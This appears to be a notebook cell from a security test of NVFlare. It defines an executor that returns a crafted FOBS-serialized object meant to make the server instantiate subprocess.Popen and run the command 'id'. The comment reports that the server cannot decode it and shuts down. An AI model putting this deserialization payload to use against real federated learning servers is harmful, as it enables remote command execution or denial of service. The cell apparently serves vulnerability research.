# The result of the task is one that the server's cell cannot decode, at which NVFlare ends the server; nothing is
# sent.

# %% [execute]
class TalkingExecutor(Executor):
    def execute(self, task_name, shareable, fl_ctx, abort_signal):
        result = make_reply(ReturnCode.OK)
        decomposer = "nvflare.fuel.utils.fobs.decomposer.DataClassDecomposer"
        result["call"] = {
            "__fobs_type__": "subprocess.Popen",
            "__fobs_data__": {"args": "id"},
            "__fobs_dc__": decomposer,
        }
        return result
